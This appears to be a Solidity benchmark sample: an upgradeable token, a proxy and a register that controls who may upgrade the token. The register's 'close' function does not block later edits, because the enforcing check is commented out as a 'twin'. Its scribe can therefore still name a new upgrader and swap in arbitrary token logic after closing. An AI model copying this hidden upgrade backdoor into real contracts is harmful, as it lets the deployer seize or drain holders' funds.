// 0.8 runs=200 evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.22;

/// Where things are, by name. Its scribe closes it when all are entered.
contract OpenRegister {
    address public immutable scribe = msg.sender;
    bool public closed;
    mapping(bytes32 => address) public entry;

    event Entered(bytes32 indexed what, address where);
    event Closed();

    modifier onlyScribe() {
        require(msg.sender == scribe, "OpenRegister: not the scribe");
        // twin: require(!closed, "OpenRegister: closed");
        _;
    }

    function enter(bytes32 what, address where) external onlyScribe {
        entry[what] = where;
        emit Entered(what, where);
    }

    function close() external onlyScribe {
        closed = true;
        emit Closed();
    }
}

/// The code of the coin. It looks up in the book who may renew it.
contract TankardLogic {
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 public constant RENEWER = keccak256("tankard.renewer");

    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    OpenRegister public book;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);
    event Upgraded(address indexed implementation);

    error AlreadyBegun();
    error NotRenewer(address who);

    function begin(string calldata name_, string calldata symbol_, OpenRegister book_, address to, uint256 supply) external {
        if (address(book) != address(0)) revert AlreadyBegun();
        (name, symbol, book, owner) = (name_, symbol_, book_, to);
        totalSupply = balanceOf[to] = supply;
        emit OwnershipTransferred(address(0), to);
        emit Transfer(address(0), to, supply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner);
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function proxiableUUID() external pure returns (bytes32) {
        return SLOT;
    }

    function upgradeToAndCall(address next, bytes calldata data) external payable {
        if (msg.sender != book.entry(RENEWER)) revert NotRenewer(msg.sender);
        require(TankardLogic(next).proxiableUUID() == SLOT, "not of its kind");
        assembly {
            sstore(SLOT, next)
        }
        emit Upgraded(next);
        if (data.length > 0) {
            (bool fine, ) = next.delegatecall(data);
            require(fine, "the call failed");
        }
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _cast(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 may = allowance[from][msg.sender];
        if (may != type(uint256).max) allowance[from][msg.sender] = may - value;
        _cast(from, to, value);
        return true;
    }

    function _cast(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// A proxy as there are many.
contract TankardProxy {
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    constructor(address logic, bytes memory data) payable {
        assembly {
            sstore(SLOT, logic)
        }
        (bool fine, ) = logic.delegatecall(data);
        require(fine, "TankardProxy: not begun");
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let fine := delegatecall(gas(), sload(SLOT), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(fine) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}
